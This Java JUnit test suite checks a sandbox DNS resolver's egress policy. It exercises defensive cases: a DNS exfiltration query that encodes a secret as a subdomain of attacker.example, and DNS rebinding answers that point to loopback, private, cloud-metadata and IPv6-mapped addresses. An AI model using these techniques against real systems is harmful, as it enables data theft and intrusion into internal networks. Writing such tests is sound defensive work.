package dev.podflare.network;

import static dev.podflare.network.ResolverRig.SLOT;
import static dev.podflare.network.ResolverRig.data;
import static dev.podflare.network.ResolverRig.rcode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.podflare.common.DataSize;
import dev.podflare.network.EgressPolicy.Default;
import java.io.IOException;
import java.net.InetAddress;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xbill.DNS.ClientSubnetOption;
import org.xbill.DNS.Message;
import org.xbill.DNS.OPTRecord;
import org.xbill.DNS.Section;
import org.xbill.DNS.Type;

/** What policy does to names, with attacks that succeed where the guard is off. */
class ResolverPolicyTest {
  private ResolverRig rig;

  @BeforeEach
  void start() throws IOException {
    rig = ResolverRig.open();
    rig.slots.set(SLOT, EgressPolicy.OPEN);
  }

  @AfterEach
  void stop() throws IOException {
    rig.close();
  }

  private void allowOnly(String... names) {
    rig.slots.set(SLOT, EgressPolicy.parse(Default.DENY, List.of(names), List.of(), true));
  }

  @Test
  void underDenyNoQueryLeavesTheHost() throws IOException {
    rig.upstream.add("*.attacker.example 60 A 203.0.113.66");
    for (EgressPolicy policy :
        List.of(
            EgressPolicy.SHUT,
            EgressPolicy.parse(Default.DENY, List.of("203.0.113.0/24"), List.of(), true),
            EgressPolicy.parse(Default.ALLOW, List.of(), List.of(), false))) {
      rig.slots.set(SLOT, policy);
      assertThat(rcode(rig.ask(SLOT, "c2VjcmV0.attacker.example", "A"))).isEqualTo("REFUSED");
      assertThat(rcode(rig.askTcp(SLOT, ResolverRig.query("c2VjcmV0.attacker.example", Type.TXT))))
          .isEqualTo("REFUSED");
    }
    allowOnly("good.example");
    for (String type : List.of("A", "AAAA", "TXT", "NULL", "CNAME", "MX", "PTR")) {
      assertThat(rcode(rig.ask(SLOT, "c2VjcmV0.attacker.example", type))).isEqualTo("NXDOMAIN");
    }
    assertThat(rcode(rig.ask(SLOT, "c2VjcmV0.good.example", "TXT"))).isEqualTo("NXDOMAIN");
    assertThat(rig.upstream.asked).isEmpty();
    assertThat(rig.slots.rules()).contains("default deny", "dns off");
    // The same policy without the guard: the secret is out.
    rig.slots.set(SLOT, EgressPolicy.SHUT);
    rig.sees.lie("policy", Optional.of(EgressPolicy.OPEN));
    rig.ask(SLOT, "c2VjcmV0.attacker.example", "TXT");
    assertThat(rig.upstream.asked).contains("udp c2vjcmv0.attacker.example TXT");
  }

  @Test
  void nothingButNameAndTypeGoesUpstream() throws IOException {
    allowOnly("good.example");
    rig.upstream.add("good.example 60 A 203.0.113.5");
    Message query = ResolverRig.query("gOOd.eXample", Type.A);
    query.addRecord(
        new OPTRecord(4096, 0, 0, 0, new ClientSubnetOption(32, MemorySlots.v4("198.51.100.99"))),
        Section.ADDITIONAL);
    Message answer = rig.ask(SLOT, query).orElseThrow();
    assertThat(data(answer)).containsExactly("203.0.113.5");
    assertThat(answer.getQuestion().getName()).hasToString("gOOd.eXample.");
    assertThat(answer.getSection(Section.ANSWER).getFirst().getName()).hasToString("gOOd.eXample.");
    assertThat(rig.upstream.asked).containsExactly("udp good.example A");
    assertThat(rig.upstream.queries.getFirst().getOPT().getOptions()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "127.0.0.1",
        "10.1.2.3",
        "169.254.169.254",
        "192.168.0.1",
        "100.64.0.1",
        "0.0.0.0",
        "192.0.0.1",
        "224.0.0.1",
        "10.213.0.4"
      })
  void rebindingIntoDeniedRangesIsDropped(String inside) throws IOException {
    rig.upstream.add("rebind.example 0 A " + inside);
    rig.upstream.add("rebind.example 0 A 203.0.113.5");
    rig.upstream.add("alias.example 60 CNAME rebind.example");
    allowOnly("rebind.example", "alias.example");
    assertThat(data(rig.ask(SLOT, "rebind.example", "A"))).containsExactly("203.0.113.5");
    assertThat(data(rig.ask(SLOT, "alias.example", "A")))
        .containsExactly("rebind.example.", "203.0.113.5");
    assertThat(rig.pinned("rebind.example", inside)).isFalse();
    assertThat(rig.pinned("alias.example", inside)).isFalse();
    assertThat(rig.slots.rules()).containsOnly("always denied");
  }

  @Test
  void rebindingSucceedsWhereTheOperatorOpenedTheRange() throws IOException {
    try (ResolverRig open =
        new ResolverRig(List.of("10.0.0.0/8"), QueryLimits.defaults(), DataSize.ofMebibytes(1))) {
      open.slots.set(SLOT, EgressPolicy.OPEN);
      open.upstream.add("rebind.example 0 A 10.1.2.3");
      assertThat(data(open.ask(SLOT, "rebind.example", "A"))).containsExactly("10.1.2.3");
    }
  }

  @Test
  void aSecondAnswerThatRebindsIsDroppedToo() throws IOException {
    allowOnly("rebind.example");
    rig.upstream.add("rebind.example 0 A 203.0.113.5");
    assertThat(data(rig.ask(SLOT, "rebind.example", "A"))).containsExactly("203.0.113.5");
    rig.upstream.clear("rebind.example");
    rig.upstream.add("rebind.example 0 A 127.0.0.1");
    Message second = rig.ask(SLOT, "rebind.example", "A");
    assertThat(data(second)).isEmpty();
    assertThat(rig.upstream.asked).as("TTL 0 is never kept").hasSize(2);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "::ffff:203.0.113.5",
        "::ffff:10.0.0.1",
        "::203.0.113.5",
        "64:ff9b::cb00:7105",
        "64:ff9b::a9fe:a9fe",
        "2002:cb00:7105::1",
        "2001:0:cb00:7105::1",
        "2001:db8:2::5efe:a00:1",
        "fd00:ec2::254",
        "fe80::1",
        "ff02::1",
        "::1",
        "fd73::a0d:5"
      })
  void rebindingByIpv6IsDropped(String inside) throws IOException {
    rig.slots.ipv6 = true;
    rig.upstream.add("rebind.example 0 AAAA " + inside);
    rig.upstream.add("rebind.example 0 AAAA 2001:db8:2::5");
    allowOnly("rebind.example");
    assertThat(data(rig.ask(SLOT, "rebind.example", "AAAA")))
        .containsExactly("2001:db8:2:0:0:0:0:5");
    assertThat(rig.pinned("rebind.example", inside)).isFalse();
    assertThat(rig.pinned("rebind.example", "2001:db8:2::5")).isTrue();
    assertThat(rig.slots.rules()).containsExactly("always denied");
  }

  @Test
  void rebindingByIpv6SucceedsWhereTheOperatorOpenedTheRange() throws IOException {
    try (ResolverRig open =
        new ResolverRig(List.of("fd00::/8"), QueryLimits.defaults(), DataSize.ofMebibytes(1))) {
      open.slots.ipv6 = true;
      open.slots.set(SLOT, EgressPolicy.OPEN);
      open.upstream.add("rebind.example 0 AAAA fd00:ec2::254");
      assertThat(data(open.ask(SLOT, "rebind.example", "AAAA")))
          .containsExactly("fd00:ec2:0:0:0:0:0:254");
    }
  }

  @Test
  void namesWithIpv6AloneAreFoundForTheGate() throws IOException {
    rig.upstream.add("both.example 60 A 203.0.113.5");
    rig.upstream.add("both.example 60 AAAA 2001:db8:2::5");
    rig.upstream.add("six.example 60 AAAA 2001:db8:2::6");
    assertThat(rig.resolver.addresses(SLOT, "six.example")).isEmpty();
    rig.slots.ipv6 = true;
    assertThat(rig.resolver.addresses(SLOT, "six.example"))
        .containsExactly(InetAddress.ofLiteral("2001:db8:2::6"));
    assertThat(rig.resolver.addresses(SLOT, "both.example"))
        .containsExactly(InetAddress.ofLiteral("203.0.113.5"));
  }

  @Test
  void whereGuestsHaveNoIpv6NoneIsTold() throws IOException {
    rig.upstream.add("six.example 60 AAAA ::ffff:10.0.0.1");
    rig.upstream.add("six.example 60 AAAA 64:ff9b::a9fe:a9fe");
    rig.upstream.add("six.example 60 HTTPS 1 . ipv4hint=10.0.0.1");
    for (String type : List.of("AAAA", "HTTPS", "SVCB", "A6")) {
      Message answer = rig.ask(SLOT, "six.example", type);
      assertThat(rcode(answer)).isEqualTo("NOERROR");
      assertThat(data(answer)).isEmpty();
    }
    assertThat(rig.upstream.asked).isEmpty();
  }

  @Test
  void strayRecordsOfAnAnswerAreCutOff() throws IOException {
    allowOnly("www.example");
    rig.upstream.add("www.example 60 CNAME a.cdn.example");
    rig.upstream.add("a.cdn.example 300 A 203.0.113.5");
    Message answer = rig.ask(SLOT, "www.example", "A");
    assertThat(data(answer)).containsExactly("a.cdn.example.", "203.0.113.5");
    assertThat(rig.pinned("www.example", "203.0.113.5")).isTrue();
    assertThat(rig.pinned("a.cdn.example", "203.0.113.5")).as("not asked for").isFalse();
    assertThat(rcode(rig.ask(SLOT, "a.cdn.example", "A"))).isEqualTo("NXDOMAIN");
  }

  @Test
  void anAliasOfARefusedNameIsRefused() throws IOException {
    rig.upstream.add("innocent.example 60 CNAME evil.example");
    rig.upstream.add("evil.example 60 A 203.0.113.66");
    rig.slots.set(
        SLOT, EgressPolicy.parse(Default.ALLOW, List.of(), List.of("evil.example"), true));
    assertThat(rcode(rig.ask(SLOT, "evil.example", "A"))).isEqualTo("NXDOMAIN");
    assertThat(rcode(rig.ask(SLOT, "innocent.example", "A"))).isEqualTo("NXDOMAIN");
    assertThat(rig.slots.rules()).contains("alias of evil.example");
    rig.slots.set(SLOT, EgressPolicy.OPEN);
    assertThat(data(rig.ask(SLOT, "innocent.example", "A"))).contains("203.0.113.66");
  }

  @Test
  void pinsEndWithTheTimeToLiveAndTheGrace() throws IOException {
    allowOnly("*.example");
    rig.upstream.add("www.example 60 A 203.0.113.5");
    rig.ask(SLOT, "WWW.Example.", "A");
    assertThat(rig.pinned("www.example", "203.0.113.5")).isTrue();
    rig.pass(Duration.ofSeconds(89));
    assertThat(rig.pinned("www.example", "203.0.113.5")).isTrue();
    rig.pass(Duration.ofSeconds(2));
    assertThat(rig.pinned("www.example", "203.0.113.5")).isFalse();
    rig.slots.set(SLOT, EgressPolicy.OPEN);
    rig.ask(SLOT, "www.example", "A");
    assertThat(rig.pinned("www.example", "203.0.113.5")).as("no rule, no pin").isFalse();
  }

  @Test
  void aPinFromTheCacheLastsAsLongAsWhatIsLeft() throws IOException {
    allowOnly("www.example");
    rig.slots.set(ResolverRig.OTHER, EgressPolicy.OPEN);
    rig.upstream.add("www.example 60 A 203.0.113.5");
    rig.ask(ResolverRig.OTHER, "www.example", "A");
    rig.pass(Duration.ofSeconds(50));
    Message answer = rig.ask(SLOT, "www.example", "A");
    assertThat(answer.getSection(Section.ANSWER).getFirst().getTTL()).isEqualTo(10);
    rig.pass(Duration.ofSeconds(41));
    assertThat(rig.pinned("www.example", "203.0.113.5")).isFalse();
    assertThat(rig.upstream.asked).hasSize(1);
  }

  @Test
  void aPolicyChangeIsInForceForAnswersInTheCache() throws IOException {
    rig.upstream.add("www.example 60 A 203.0.113.5");
    assertThat(data(rig.ask(SLOT, "www.example", "A"))).hasSize(1);
    allowOnly("other.example");
    assertThat(rcode(rig.ask(SLOT, "www.example", "A"))).isEqualTo("NXDOMAIN");
  }
}
